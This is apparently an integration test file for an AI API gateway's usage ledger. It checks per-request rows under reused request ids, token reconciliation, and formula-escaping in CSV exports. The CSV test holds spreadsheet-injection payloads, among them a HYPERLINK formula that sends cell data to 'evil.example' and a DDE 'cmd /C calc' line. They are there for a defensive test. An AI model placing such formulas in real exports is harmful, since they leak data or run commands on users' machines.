import { parse as parseCsv } from 'csv-parse/sync';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { utcDay } from '../../../src/calendar.js';
import { startInferenceHost } from '../../fixtures/inference-host.js';
import { startTrainingService, usageFrom, type FakeUpstream } from '../../fixtures/training-service.js';
import { startGateway, testConfig, type RunningGateway } from '../../helpers/gateway.js';
import { chatBody } from '../../helpers/gateway-traffic.js';
import { bearer, KEYS } from '../../helpers/keys.js';
import { createTestDatabase, type TestDatabase } from '../../helpers/postgres.js';

const QWEN = 'OpenPipe/Qwen3-14B-Instruct';
const admin = { authorization: bearer(KEYS.admin) };
/** The shape of the ids the gateway makes for ledger rows: UUIDv7 (time first, then 74 random bits). */
const ROW_ID = /^[0-9a-f]{8}-[0-9a-f]{4}-7[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;

interface RowJson {
  id: string;
  request_id: string;
  prompt_tokens: number;
  completion_tokens: number;
  total_tokens: number;
  status: number;
}

/**
 * SPEC 14.1: every request served is exactly one ledger row, whatever x-request-id its client
 * sends (reused, concurrent, pre-seeded with `<id>#2`…): rows are told apart by an id the
 * gateway makes. And CSV exports neutralise spreadsheet formulas. On SQLite and PostgreSQL.
 */
describe.each(['sqlite', 'postgres'] as const)('ledger rows are the requests served (%s)', (backend) => {
  let database: TestDatabase | undefined;
  let service: FakeUpstream;
  let inference: FakeUpstream;
  let gw: RunningGateway;
  const today = utcDay();

  beforeAll(async () => {
    [service, inference] = await Promise.all([startTrainingService(), startInferenceHost()]);
    if (backend === 'postgres') database = await createTestDatabase();
    // 500 requests at once on a machine shared with other test files: an upstream timeout (504) here would say nothing about the ledger.
    const overrides = { upstreams: { service: { timeoutMs: 30_000 } }, ...(database ? { database: { url: database.url } } : {}) };
    gw = await startGateway(testConfig({ service: service.url, inference: inference.url }, overrides));
  });
  afterAll(async () => {
    await gw.close();
    await Promise.all([service.close(), inference.close()]);
    await database?.drop();
  });

  /** Sends one chat for `team-a/<project>` and answers the status and the x-request-id the client got. */
  async function chat(project: string, requestId: string, usage = '5,1', model = QWEN): Promise<{ status: number; requestId: string | null }> {
    const res = await fetch(`${gw.url}/v1/chat/completions`, {
      method: 'POST',
      headers: { authorization: bearer(KEYS.teamA), 'openai-project': `team-a/${project}`, 'content-type': 'application/json', 'x-request-id': requestId, 'x-fixture-usage': usage },
      body: chatBody(model),
    });
    await res.text();
    return { status: res.status, requestId: res.headers.get('x-request-id') };
  }

  /** Every ledger row of `team-a/<project>` today, paged by cursor `limit` at a time. */
  async function rowsOf(project: string, limit = 1000): Promise<RowJson[]> {
    const rows: RowJson[] = [];
    for (let after: string | undefined; ; ) {
      const page = await request(gw.url)
        .get(`/admin/usage/requests?from=${today}&to=${today}&team=team-a&project=${project}&limit=${limit}${after ? `&after=${encodeURIComponent(after)}` : ''}`)
        .set(admin);
      expect(page.status).toBe(200);
      rows.push(...(page.body.data as RowJson[]));
      if (!page.body.has_more) return rows;
      after = page.body.last_id as string;
    }
  }

  /** What the upstream reported for the chats it answered since `from` (an index into its request log). */
  function reportedSince(from: number): { requests: number; prompt: number; completion: number } {
    const chats = service.requests.slice(from).filter((req) => req.url === '/v1/chat/completions');
    return {
      requests: chats.length,
      prompt: chats.reduce((sum, req) => sum + usageFrom(req).prompt_tokens, 0),
      completion: chats.reduce((sum, req) => sum + usageFrom(req).completion_tokens, 0),
    };
  }

  const totalsOf = (rows: RowJson[]) => ({
    requests: rows.length,
    prompt: rows.reduce((sum, row) => sum + row.prompt_tokens, 0),
    completion: rows.reduce((sum, row) => sum + row.completion_tokens, 0),
  });

  it('writes 90 rows for 90 identical concurrent requests with the same x-request-id, their tokens what the upstream reported', async () => {
    const before = service.requests.length;
    const answers = await Promise.all(Array.from({ length: 90 }, () => chat('twins', 'same-id-90')));
    expect(answers.every((a) => a.status === 200 && a.requestId === 'same-id-90')).toBe(true);
    await gw.gateway.settled();
    const rows = await rowsOf('twins', 7);
    expect(rows).toHaveLength(90);
    expect(rows.every((row) => row.request_id === 'same-id-90' && ROW_ID.test(row.id))).toBe(true);
    expect(new Set(rows.map((row) => row.id)).size).toBe(90);
    expect(totalsOf(rows)).toEqual({ requests: 90, prompt: 450, completion: 90 });
    expect(reportedSince(before)).toEqual(totalsOf(rows));
  });

  it('writes a row under the client’s own id after requests pre-seeded X, X#2, X#3, X#4', async () => {
    for (const id of ['pre', 'pre#2', 'pre#3', 'pre#4']) expect((await chat('seeded', id)).status).toBe(200);
    for (let i = 0; i < 3; i++) expect(await chat('seeded', 'pre', '9,9')).toEqual({ status: 200, requestId: 'pre' });
    await gw.gateway.settled();
    const rows = await rowsOf('seeded');
    expect(rows.map((row) => row.request_id).sort()).toEqual(['pre', 'pre', 'pre', 'pre', 'pre#2', 'pre#3', 'pre#4']);
    expect(rows.filter((row) => row.prompt_tokens === 9).map((row) => row.request_id)).toEqual(['pre', 'pre', 'pre']);
  });

  it('reconciles 500 concurrent requests sharing 5 request ids: rows = requests served, tokens = the upstream’s', async () => {
    const before = service.requests.length;
    const answers = await Promise.all(Array.from({ length: 500 }, (_, i) => chat('five-ids', `shared-${i % 5}`, `${(i % 7) + 1},${(i % 3) + 1}`)));
    await gw.gateway.settled();
    const served = answers.filter((a) => a.status === 200).length;
    const rows = await rowsOf('five-ids', 97);
    const upstream = reportedSince(before);
    expect(answers.reduce<Record<number, number>>((counts, a) => ({ ...counts, [a.status]: (counts[a.status] ?? 0) + 1 }), {})).toEqual({ 200: 500 });
    expect(totalsOf(rows)).toEqual(upstream);
    expect(rows.length).toBe(served);
    expect(new Set(rows.map((row) => row.id)).size).toBe(rows.length);
    expect(new Set(rows.map((row) => row.request_id))).toEqual(new Set(['shared-0', 'shared-1', 'shared-2', 'shared-3', 'shared-4']));
    const sums = await request(gw.url).get(`/admin/usage?from=${today}&to=${today}&team=team-a&project=five-ids`).set(admin);
    expect(sums.body.data).toEqual([
      { team: 'team-a', project: 'five-ids', requests: 500, prompt_tokens: upstream.prompt, completion_tokens: upstream.completion, total_tokens: upstream.prompt + upstream.completion, cost: 0 },
    ]);
    console.log(`reconciliation (${backend}): 500 concurrent requests over 5 request ids, ${served} served, ${rows.length} ledger rows; upstream reported ${upstream.prompt}+${upstream.completion} tokens, the ledger holds ${totalsOf(rows).prompt}+${totalsOf(rows).completion}`);
  }, 60_000);

  it('exposes the row id in JSON and NDJSON, beside the client’s request_id', async () => {
    const json = await request(gw.url).get(`/admin/usage/requests?from=${today}&to=${today}&team=team-a&project=seeded&limit=3`).set(admin);
    const ndjson = await request(gw.url).get(`/admin/usage/requests?from=${today}&to=${today}&team=team-a&project=seeded&limit=3`).set(admin).set('accept', 'application/x-ndjson');
    const lines = ndjson.text.split('\n').filter(Boolean).map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(lines).toEqual(json.body.data);
    expect(Object.keys(lines[0]!).slice(0, 2)).toEqual(['id', 'request_id']);
    expect(lines.every((line) => ROW_ID.test(line.id as string))).toBe(true);
  });

  it.each([
    ['=', '=HYPERLINK("http://evil.example/?"&A1,"click")'],
    ['+', '+1+cmd|\' /C calc\'!A0'],
    ['-', '-2+3'],
    ['@', '@SUM(1,1)'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
  ])('prefixes a CSV cell that starts with %s with a quote, numbers left as numbers', async (_, model) => {
    expect((await chat(`csv-${model.charCodeAt(0)}`, 'csv', '3,4', model)).status).toBe(200);
    await gw.gateway.settled();
    const res = await request(gw.url).get(`/admin/usage?from=${today}&to=${today}&team=team-a&project=csv-${model.charCodeAt(0)}&groupBy=model&format=csv`).set(admin);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(parseCsv(res.text, { columns: true })).toEqual([
      { team: 'team-a', project: `csv-${model.charCodeAt(0)}`, model: `'${model}`, requests: '1', prompt_tokens: '3', completion_tokens: '4', total_tokens: '7', cost: '0' },
    ]);
  });
});
